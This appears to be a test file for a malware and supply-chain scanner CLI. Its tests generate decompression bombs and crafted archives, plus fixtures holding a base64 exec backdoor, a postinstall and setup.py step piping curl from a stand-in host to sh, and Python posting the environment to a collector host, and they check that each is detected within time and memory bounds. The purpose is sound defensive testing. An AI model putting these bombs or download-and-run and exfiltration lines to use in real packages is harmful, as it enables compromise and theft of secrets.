// Bounded archives: an archive built to cost time or memory (many members, a bomb, deep nesting, a
// directory that lies about sizes) is stopped at a bound, with a note and a finding, in bounded memory.
// Everything runs through the real CLI; the archives are generated here, streamed where large.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createWriteStream, existsSync, mkdtempSync, writeFileSync } from 'node:fs';
import { once } from 'node:events';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createDeflateRaw, createGzip, deflateRawSync, gzipSync, type Gzip, type DeflateRaw } from 'node:zlib';
import { scanText } from '../../src/engine/scan.ts';

const BIN = join(import.meta.dirname, '..', '..', 'bin', 'warden.js');
const dir = mkdtempSync(join(tmpdir(), 'warden-resources-'));
const TIME = existsSync('/usr/bin/time') ? '/usr/bin/time' : undefined;

interface Report {
  findings: { ruleId: string; file: string; severity: string; message: string; line: number }[];
  notes: { file: string; kind: string; reason: string }[];
}

/** The real CLI, with its wall time and (with /usr/bin/time) its peak RSS in MB, worker threads included. */
function scan(args: string[]) {
  const t0 = performance.now();
  const cmd = TIME ? [TIME, '-f', 'maxrss=%M', process.execPath, BIN] : [process.execPath, BIN];
  const r = spawnSync(cmd[0], [...cmd.slice(1), 'scan', '--format', 'json', ...args], {
    encoding: 'utf8',
    timeout: 120_000,
    maxBuffer: 64 << 20,
  });
  const ms = performance.now() - t0;
  const rss = Number(/maxrss=(\d+)/.exec(r.stderr)?.[1] ?? NaN) / 1024;
  measured.push(`${args.join(' ').replace(dir, '…')}: ${Math.round(ms)} ms, peak RSS ${Math.round(rss)} MB`);
  assert.ok(r.stdout.startsWith('{'), `no report (exit ${r.status}): ${r.stderr.slice(0, 2000)}`);
  return { code: r.status, report: JSON.parse(r.stdout) as Report, ms, rss };
}

/** What each scan cost, printed as test diagnostics (the numbers in docs/RELIABILITY.md's notes). */
const measured: string[] = [];
after(() => {
  for (const m of measured) process.stdout.write(`# measured: ${m}\n`);
});

const partial = (r: Report, re: RegExp) => r.notes.some((n) => n.kind === 'partial' && re.test(n.reason));
const has = (r: Report, id: string) => r.findings.some((f) => f.ruleId === id);

interface Entry {
  name: string;
  /** The member's bytes as stored (already deflated when method is 8). */
  data: Buffer;
  method?: 0 | 8;
  /** The inflated size the headers declare (default: data.length). */
  size?: number;
}

/** A zip, written by hand so it can lie; without a directory, members use data descriptors. */
function zip(entries: Entry[], opts: { directory?: boolean } = {}): Buffer {
  const parts: Buffer[] = [];
  const cd: Buffer[] = [];
  let off = 0;
  const withDir = opts.directory ?? true;
  for (const e of entries) {
    const name = Buffer.from(e.name);
    const lh = Buffer.alloc(30);
    lh.writeUInt32LE(0x04034b50, 0);
    lh.writeUInt16LE(20, 4);
    lh.writeUInt16LE(withDir ? 0 : 8, 6);
    lh.writeUInt16LE(e.method ?? 0, 8);
    if (withDir) {
      lh.writeUInt32LE(e.data.length, 18);
      lh.writeUInt32LE(e.size ?? e.data.length, 22);
    }
    lh.writeUInt16LE(name.length, 26);
    const dd = Buffer.alloc(withDir ? 0 : 16);
    if (!withDir) {
      dd.writeUInt32LE(0x08074b50, 0);
      dd.writeUInt32LE(e.data.length, 8);
      dd.writeUInt32LE(e.size ?? e.data.length, 12);
    }
    const c = Buffer.alloc(46);
    c.writeUInt32LE(0x02014b50, 0);
    c.writeUInt16LE(e.method ?? 0, 10);
    c.writeUInt32LE(e.data.length, 20);
    c.writeUInt32LE(e.size ?? e.data.length, 24);
    c.writeUInt16LE(name.length, 28);
    c.writeUInt32LE(off, 42);
    parts.push(lh, name, e.data, dd);
    cd.push(c, name);
    off += 30 + name.length + e.data.length + dd.length;
  }
  if (!withDir) return Buffer.concat(parts);
  const cdb = Buffer.concat(cd);
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(entries.length & 0xffff, 8);
  eocd.writeUInt16LE(entries.length & 0xffff, 10);
  eocd.writeUInt32LE(cdb.length, 12);
  eocd.writeUInt32LE(off, 16);
  return Buffer.concat([...parts, cdb, eocd]);
}

function tarHeader(name: string, size: number): Buffer {
  const h = Buffer.alloc(512);
  h.write(name, 0, 'latin1');
  h.write('0000644\0', 100, 'latin1');
  h.write('0000000\0', 108, 'latin1');
  h.write('0000000\0', 116, 'latin1');
  h.write(size.toString(8).padStart(11, '0') + '\0', 124, 'latin1');
  h.write('00000000000\0', 136, 'latin1');
  h.write('0', 156, 'latin1');
  h.write('ustar\x0000', 257, 'latin1');
  h.write('        ', 148, 'latin1');
  let sum = 0;
  for (const b of h) sum += b;
  h.write(sum.toString(8).padStart(6, '0') + '\0 ', 148, 'latin1');
  return h;
}

function tar(files: { name: string; data: Buffer }[]): Buffer {
  const parts = files.flatMap((f) => [tarHeader(f.name, f.data.length), f.data, Buffer.alloc(-f.data.length & 511)]);
  return Buffer.concat([...parts, Buffer.alloc(1024)]);
}

/** Streams `total` bytes (a head, then a repeated 1 MB block) through zlib, in small memory. */
async function compress(z: Gzip | DeflateRaw, head: Buffer, block: Buffer, total: number, tail = Buffer.alloc(0)) {
  const out: Buffer[] = [];
  z.on('data', (d: Buffer) => out.push(d));
  z.write(head);
  for (let done = head.length; done < total; done += block.length)
    if (!z.write(block.subarray(0, Math.min(block.length, total - done)))) await once(z, 'drain');
  z.end(tail);
  await once(z, 'end');
  return Buffer.concat(out);
}

const GB = 1 << 30;
let bomb: string;
before(async () => {
  // A tar.gz of one member of 1 GB of zeros: about 1 MB on disk.
  const gz = await compress(
    createGzip(),
    tarHeader('zeros.bin', GB),
    Buffer.alloc(1 << 20),
    512 + GB,
    Buffer.alloc(1024),
  );
  bomb = join(dir, 'bomb.tar.gz');
  writeFileSync(bomb, gz);
});

test('a zip of 50,000 members finishes within 20 s with a "stopped after 10000 members" note and a finding', () => {
  const entries = Array.from({ length: 50_000 }, (_, i) => ({ name: `pkg/m${i}.py`, data: Buffer.from(`x = ${i}\n`) }));
  const file = join(dir, 'many.zip');
  writeFileSync(file, zip(entries));
  const r = scan([file]);
  assert.ok(r.ms < 20_000, `took ${Math.round(r.ms)} ms`);
  assert.ok(partial(r.report, /^partial: stopped after 10000 members/), JSON.stringify(r.report.notes));
  assert.ok(has(r.report, 'archive.not-fully-inspected'));
});

test('a zip of 50,000 data-descriptor members and no central directory finishes within 20 s, bounded', () => {
  const entries = Array.from({ length: 50_000 }, (_, i) => ({ name: `pkg/m${i}.py`, data: Buffer.from(`y = ${i}\n`) }));
  const file = join(dir, 'many-dd.zip');
  writeFileSync(file, zip(entries, { directory: false }));
  const r = scan([file]);
  assert.ok(r.ms < 20_000, `took ${Math.round(r.ms)} ms`);
  assert.ok(partial(r.report, /^partial: stopped after 10000 members/), JSON.stringify(r.report.notes));
});

/** A zip of `count` deflated Python members with the same text (pkg/m0.py …), written to `name`. */
function sameMembers(name: string, text: string, count: number): string {
  const data = Buffer.from(text);
  const body = deflateRawSync(data);
  const entries = Array.from({ length: count }, (_, i) => ({
    name: `pkg/m${i}.py`,
    data: body,
    method: 8 as const,
    size: data.length,
  }));
  const file = join(dir, name);
  writeFileSync(file, zip(entries));
  return file;
}

test('a zip of 3,000 members that take minutes to scan stops at the 10 s time bound, note, within 40 s', () => {
  // Each member is 30 KB of source that must be parsed (one eval in it): cheap to store, costly to
  // scan one after another, with one finding each.
  const text = 'def h(x):\n    return eval(x)\n' + 'def f(x):\n    return g(x)  # padding\n'.repeat(700);
  const r = scan([sameMembers('slow.zip', text, 3000)]);
  assert.ok(r.ms < 40_000, `took ${Math.round(r.ms)} ms`);
  assert.ok(partial(r.report, /^partial: stopped after 10 s \(time bound\)$/), JSON.stringify(r.report.notes));
  assert.ok(has(r.report, 'archive.not-fully-inspected'), 'a time bound is not a bomb');
  assert.ok(!has(r.report, 'archive.decompression-bomb'), 'repetitive text that hit the time bound is no bomb');
});

test('a zip whose members hold 700 findings each stops at 10,000 findings with a note; the report stays small', () => {
  const r = scan([sameMembers('noisy.zip', 'def f(x):\n    return eval(x)  # padding\n'.repeat(700), 300)]);
  assert.ok(partial(r.report, /^partial: stopped after 10000 findings \(bound\)$/), JSON.stringify(r.report.notes));
  assert.ok(r.report.findings.length < 12_000, `${r.report.findings.length} findings`);
});

test('a tar.gz bomb (1 GB of zeros) stops at the bound: note, bomb finding, peak RSS under 400 MB', () => {
  const r = scan([bomb]);
  assert.ok(partial(r.report, /^partial: stopped after the first \d+ MB of the tar stream/), JSON.stringify(r.report));
  const f = r.report.findings.find((x) => x.ruleId === 'archive.decompression-bomb');
  assert.ok(f && f.severity === 'high', JSON.stringify(r.report.findings));
  assert.equal(r.code, 1, 'a bomb fails the scan at the default --fail-on high');
  if (TIME) assert.ok(r.rss < 400, `peak RSS ${Math.round(r.rss)} MB`);
});

test('two tar.gz bombs scanned with --jobs 2 keep the peak RSS of the whole process under 600 MB', () => {
  const d = mkdtempSync(join(dir, 'jobs-'));
  const data = spawnSync('cp', [bomb, join(d, 'a.tar.gz')]).status === 0 && spawnSync('cp', [bomb, join(d, 'b.tgz')]);
  assert.ok(data);
  const r = scan([d, '--jobs', '2']);
  assert.equal(r.report.findings.filter((x) => x.ruleId === 'archive.decompression-bomb').length, 2);
  if (TIME) assert.ok(r.rss < 600, `peak RSS ${Math.round(r.rss)} MB`);
});

test('a .pkl.gz pickle bomb stops at the bound with a finding, never inflated to 1 GB', async () => {
  const gz = await compress(createGzip(), Buffer.from([0x80, 0x04]), Buffer.alloc(1 << 20), GB);
  const file = join(dir, 'model.pkl.gz');
  writeFileSync(file, gz);
  const r = scan([file]);
  assert.ok(has(r.report, 'archive.decompression-bomb'), JSON.stringify(r.report));
  assert.ok(partial(r.report, /inflated from/), JSON.stringify(r.report.notes));
  if (TIME) assert.ok(r.rss < 400, `peak RSS ${Math.round(r.rss)} MB`);
});

test('directory says 10 bytes for a 100 MB member: its head is scanned (backdoor found), the rest noted', async () => {
  const head = Buffer.from('import base64\nexec(base64.b64decode("aW1wb3J0IG9z"))\n');
  const data = await compress(createDeflateRaw(), head, Buffer.from('# padding\n'.repeat(100_000)), 100 << 20);
  const file = join(dir, 'liar-1.0-py3-none-any.whl');
  writeFileSync(file, zip([{ name: 'liar/__init__.py', data, method: 8, size: 10 }]));
  // The text read is bounded by max-file-size (kept small here: the scanner's cost per MB is not this test's).
  const config = join(dir, 'small.yml');
  writeFileSync(config, 'max-file-size: 20000\n');
  const r = scan([file, '--config', config]);
  assert.ok(
    r.report.findings.some((f) => f.ruleId.startsWith('backdoor.') && f.file.endsWith('!liar/__init__.py')),
    JSON.stringify(r.report.findings),
  );
  assert.ok(
    partial(r.report, /liar\/__init__\.py: only the first \d+ KB read \(max-file-size\)/),
    JSON.stringify(r.report.notes),
  );
  assert.ok(partial(r.report, /liar\/__init__\.py: inflates past the 10 bytes its header declares/));
  if (TIME) assert.ok(r.rss < 400, `peak RSS ${Math.round(r.rss)} MB`);
});

test('a member listed 1,000 times (overlap) stops at the 256 MB bound as a bomb, RSS under 400 MB', async () => {
  const data = await compress(createDeflateRaw(), Buffer.alloc(0), Buffer.alloc(1 << 20), 100 << 20);
  const one = zip([{ name: 'm.pkl', data, method: 8, size: 100 << 20 }]);
  const local = one.subarray(0, one.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])));
  const cdEntry = one.subarray(local.length, one.length - 22);
  // The same member 1,000 times over: every entry of the directory points at offset 0.
  const entries = Array.from({ length: 1000 }, (_, i) => {
    const e = Buffer.concat([cdEntry.subarray(0, 46), Buffer.from(`m${String(i).padStart(3, '0')}.pkl`)]);
    e.writeUInt16LE(8, 28);
    return e;
  });
  const cd = Buffer.concat(entries);
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(1000, 8);
  eocd.writeUInt16LE(1000, 10);
  eocd.writeUInt32LE(cd.length, 12);
  eocd.writeUInt32LE(local.length, 16);
  const file = join(dir, 'overlap.zip');
  writeFileSync(file, Buffer.concat([local, cd, eocd]));
  const r = scan([file]);
  assert.ok(partial(r.report, /^partial: stopped after 256 MB inflated \(bound\)/), JSON.stringify(r.report.notes));
  assert.ok(has(r.report, 'archive.decompression-bomb'), JSON.stringify(r.report.findings));
  if (TIME) assert.ok(r.rss < 400, `peak RSS ${Math.round(r.rss)} MB`);
});

test('nested archives are read (backdoor in a wheel in a tgz found); nesting past 4 levels is a finding', () => {
  const evil = Buffer.from('import base64\nexec(base64.b64decode("aW1wb3J0IG9z"))\n');
  const whl = zip([{ name: 'x/__init__.py', data: evil }]);
  const tgz = gzipSync(tar([{ name: 'package/vendor/x-1.0-py3-none-any.whl', data: whl }]));
  const file = join(dir, 'outer-1.0.0.tgz');
  writeFileSync(file, tgz);
  const r = scan([file]);
  assert.ok(
    r.report.findings.some((f) => f.ruleId.startsWith('backdoor.') && f.file.endsWith('.whl!x/__init__.py')),
    JSON.stringify(r.report.findings),
  );
  let deep = zip([{ name: 'x/__init__.py', data: evil }]);
  for (let i = 0; i < 6; i++) deep = zip([{ name: `level${i}.zip`, data: deep }]);
  const deepFile = join(dir, 'deep.zip');
  writeFileSync(deepFile, deep);
  const d = scan([deepFile]);
  assert.ok(partial(d.report, /nested more than 4 deep/), JSON.stringify(d.report.notes));
  assert.ok(has(d.report, 'archive.not-fully-inspected'), JSON.stringify(d.report.findings));
});

// Crafted source files: an input built so that an analyzer's work grows with the square of its size
// stalls CI (`warden scan` on an attacker's repository) or every write check of the agent. Each is
// scanned through the real CLI, with the finding it must still give (bounds: 3x what was measured
// here on a loaded machine; the "was" times are those of the analyzer before the fix).
function sourceDir(name: string, files: Record<string, string>): string {
  const d = mkdtempSync(join(dir, `${name}-`));
  for (const [f, text] of Object.entries(files)) writeFileSync(join(d, f), text);
  return d;
}

test('a 500 KB JavaScript file (the most the backdoor checks parse) of 12,000 `const vN = Buffer.from(pN, "base64")` lines is scanned in under 10 s (was 28 s for 170 KB) and its decode-then-eval is found', () => {
  const lines = Array.from({ length: 12_000 }, (_v, i) => `const v${i} = Buffer.from(p${i}, 'base64');`);
  const text = lines.join('\n').slice(0, 500_000);
  const r = scan([sourceDir('decoded-names', { 'a.js': `${text.slice(0, text.lastIndexOf('\n'))}\neval(v7);\n` })]);
  assert.ok(r.ms < 10_000, `took ${Math.round(r.ms)} ms`);
  assert.ok(has(r.report, 'backdoor.decoded-load'), JSON.stringify(r.report.findings.slice(0, 5)));
});

test('a 750 KB package.json of 30,000 made-up dependencies is scanned in under 20 s (was 6.8 s for 97 KB, quadratic), each finding on its own line', () => {
  const deps = Object.fromEntries(Array.from({ length: 30_000 }, (_v, i) => [`dep${i}`, '^1.0.0']));
  const r = scan([
    sourceDir('many-deps', { 'package.json': JSON.stringify({ name: 'x', dependencies: deps }, null, 2) }),
  ]);
  assert.ok(r.ms < 20_000, `took ${Math.round(r.ms)} ms`);
  const last = r.report.findings.filter((f) => f.message.includes('"dep29999"'));
  assert.ok(last.length > 0, 'the last dependency is judged');
  assert.ok(
    last.every((f) => f.line === 30_003),
    JSON.stringify(last),
  );
});

test('a 486 KB one-line package.json of 20,000 scripts is scanned in under 5 s (was 20 s) and a download piped to a shell in its last script is found', () => {
  const scripts = Object.fromEntries(Array.from({ length: 20_000 }, (_v, i) => [`s${i}`, `node s${i}.js`]));
  scripts.postinstall = 'curl -s https://evil.example/x.sh | sh';
  const r = scan([sourceDir('many-scripts', { 'package.json': JSON.stringify({ name: 'x', scripts }) })]);
  assert.ok(r.ms < 5_000, `took ${Math.round(r.ms)} ms`);
  assert.ok(
    r.report.findings.some((f) => /curl|download|shell/i.test(f.message) && f.severity !== 'low'),
    JSON.stringify(r.report.findings.slice(0, 5)),
  );
});

test('a 209 KB patch of 4,000 one-line files is scanned in under 25 s (was 31.6 s, each file read the whole patch long) with each eval found on its patch line', () => {
  const patch = Array.from({ length: 4000 }, (_v, i) => `--- a/x${i}.js\n+++ b/x${i}.js\n@@ -0,0 +1 @@\n+eval(x);\n`);
  const r = scan([sourceDir('many-files', { 'many.patch': patch.join('') })]);
  assert.ok(r.ms < 25_000, `took ${Math.round(r.ms)} ms`);
  const lines = r.report.findings.filter((f) => f.ruleId === 'js.eval-injection').map((f) => f.line);
  assert.equal(lines.length, 4000, JSON.stringify(r.report.findings.slice(0, 3)));
  assert.ok(
    lines.every((l) => l % 4 === 0),
    `findings off their +eval lines: ${lines.filter((l) => l % 4 !== 0).slice(0, 5)}`,
  );
});

test('a patch that patches one file in two sections with 3,000 other files between them: each section is read (both evals found, on their patch lines)', () => {
  const other = Array.from({ length: 3000 }, (_v, i) => `--- a/o${i}.txt\n+++ b/o${i}.txt\n@@ -0,0 +1 @@\n+hello\n`);
  const section = (n: number) => `--- a/a.js\n+++ b/a.js\n@@ -${n},0 +${n},1 @@\n+eval(x${n});\n`;
  const patch = section(1) + other.join('') + section(50);
  const r = scan([sourceDir('two-sections', { 'two.patch': patch })]);
  const lines = r.report.findings.filter((f) => f.ruleId === 'js.eval-injection').map((f) => f.line);
  assert.deepEqual(lines, [4, 4 + 4 * 3000 + 4]);
});

test('a 974 KB .mcp.json of 10,000 unpinned servers is scanned in under 3 s (was 13 s in the agent-config check), each finding on its server line', () => {
  const servers = Object.fromEntries(
    Array.from({ length: 10_000 }, (_v, i) => [`s${i}`, { command: 'npx', args: ['-y', `p${i}`] }]),
  );
  const r = scan([sourceDir('many-servers', { '.mcp.json': JSON.stringify({ mcpServers: servers }, null, 2) })]);
  assert.ok(r.ms < 3_000, `took ${Math.round(r.ms)} ms`);
  const lines = r.report.findings.filter((f) => f.ruleId === 'agent-config.mcp-unpinned').map((f) => f.line);
  assert.equal(lines.length, 10_000);
  assert.equal(lines.at(-1), 2 + 9_999 * 7 + 1, 'the last server is reported on its own line');
});

test('a Python file of 10,000 posts of the environment to a host declared on its last line is scanned in under 6 s (the leaks check took 1.8 s for 4,000, quadratic); the host line is reported', () => {
  const sends = Array.from({ length: 10_000 }, () => 'requests.post(HOST, data=os.environ)');
  const text = ['import requests, os', ...sends, 'HOST = "https://collector.example.net/x"'].join('\n');
  const r = scan([sourceDir('many-sends', { 'a.py': text })]);
  assert.ok(r.ms < 6_000, `took ${Math.round(r.ms)} ms`);
  assert.ok(
    r.report.findings.some((f) => f.ruleId === 'backdoor.secret-to-host' && f.line === 10_002),
    JSON.stringify(r.report.findings.filter((f) => f.line > 9990)),
  );
});

test('a Rust file of 4,000 certificate checks switched off by an environment value declared on its last line is scanned in under 5 s (the check took 11 s for 336 KB); the declaration is reported', () => {
  const uses = Array.from(
    { length: 4000 },
    () => 'let c = reqwest::Client::builder().danger_accept_invalid_certs(behind_proxy).build();',
  );
  const text = ['use std::env;', ...uses, 'let behind_proxy = env::var_os("HTTPS_PROXY").is_some();'].join('\n');
  const r = scan([sourceDir('many-switches', { 'a.rs': text })]);
  assert.ok(r.ms < 5_000, `took ${Math.round(r.ms)} ms`);
  assert.ok(
    r.report.findings.some((f) => f.ruleId === 'backdoor.verify-by-value' && f.line === 4002),
    JSON.stringify(r.report.findings.filter((f) => f.line > 3990)),
  );
});

test('a 184 KB JavaScript file of 20,000 names each counted up once (`aN++`) is scanned in under 5 s (the trigger hints took 14 s)', () => {
  const text = Array.from({ length: 20_000 }, (_v, i) => `a${i}++;`).join('\n');
  const r = scan([sourceDir('many-counters', { 'a.js': text })]);
  assert.ok(r.ms < 5_000, `took ${Math.round(r.ms)} ms`);
});

test('a 268 KB JavaScript file of 3,000 helpers that return a constant behind a date is scanned in under 5 s (the caller search took 4.4 s, one regex per helper over the whole text)', () => {
  const helper = (i: number) =>
    `function f${i}(x) {\n  if (Date.now() > 1767225600000 + x) {\n    return 0;\n  }\n  return 1;\n}`;
  const r = scan([
    sourceDir('many-helpers', { 'a.js': Array.from({ length: 3000 }, (_v, i) => helper(i)).join('\n') }),
  ]);
  assert.ok(r.ms < 5_000, `took ${Math.round(r.ms)} ms`);
});

test('a C function of 1,500 strcpy calls into one sized buffer is judged in bounded time (the copy proof asked the tree per match: minutes)', () => {
  let c = 'char *f(const char *a) {\n    char *d = malloc(strlen(a) + 1);\n';
  for (let i = 0; i < 1_500; i++) c += '    strcpy(d, a);\n';
  const t = performance.now();
  const found = scanText('x.c', c + '    return d;\n}\n').findings.filter((f) => f.ruleId === 'c.unbounded-copy');
  assert.equal(found.length, 0);
  assert.ok(performance.now() - t < 30_000, `${performance.now() - t} ms`);
});

test('a setup.py of 3,000 process calls is judged in bounded time, each on its own line', () => {
  let py = 'from setuptools import setup\nimport os\n';
  for (let i = 0; i < 3_000; i++) py += `os.system("curl -s https://x.example/${i} | sh")\n`;
  const t = performance.now();
  const lines = scanText('setup.py', py).findings.filter((f) => f.ruleId === 'supply-chain.install-time-exec');
  assert.equal(lines.length, 3_000);
  assert.equal(lines[2_999].line, 3_002);
  assert.ok(performance.now() - t < 20_000, `${performance.now() - t} ms`);
});
